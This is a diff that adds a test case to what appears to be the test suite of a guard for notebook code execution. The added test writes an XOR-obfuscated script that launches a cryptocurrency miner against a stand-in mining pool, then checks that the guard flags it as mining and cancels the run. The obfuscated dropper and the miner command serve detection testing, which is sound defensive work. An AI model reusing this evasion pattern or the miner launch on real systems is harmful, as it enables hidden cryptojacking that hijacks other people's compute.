@@ -148,6 +148,28 @@ def what_comes_in_beside_runs_is_on_the_operators_list_and_is_let_be(house, pers
 
 
 @case
+def a_second_stage_is_seen_as_it_appears_and_asked_about_before_it_runs(house, person):
+    """Nothing in the cells says what the fetched script does: a key that is known only at run time stands for a clone or a download."""
+    script = "import os\nos.system('./a -o stratum+tcp://pool.example.org:3333 -u me')\n"
+    notebook = person.create("second stage")
+    with person.open(notebook) as live:
+        fetch = live.insert("import os, time\nkey = int(time.time() > 0) * 7\nos.makedirs('tool', exist_ok=True)\n"
+                            f"open('tool/go.py', 'wb').write(bytes(c ^ key for c in {[c ^ 7 for c in script.encode()]}))")
+        (run,) = live.start(fetch)
+        state, _ = live.finish(run)
+        assert state["phase"] == "done", state
+        found = wait_until(lambda: [it for it in listed(person, notebook) if it["cell_id"] == "appeared"], "what appeared is listed")
+        assert [it["class_name"] for it in found] == ["mining"], found
+        start = live.insert("!python tool/go.py")
+        (run,) = live.start(start)
+        notice = held(live)
+        assert notice["run_id"] == run and notice["category"] == "mining of cryptocurrencies", notice
+        choose(live, notice, "cancel")
+        state, _ = live.finish(run)
+        assert state["phase"] == "cancelled", state
+
+
+@case
 def only_operators_and_only_with_the_token(house, person):
     """Every route of the guard's desk."""
     from house import Person
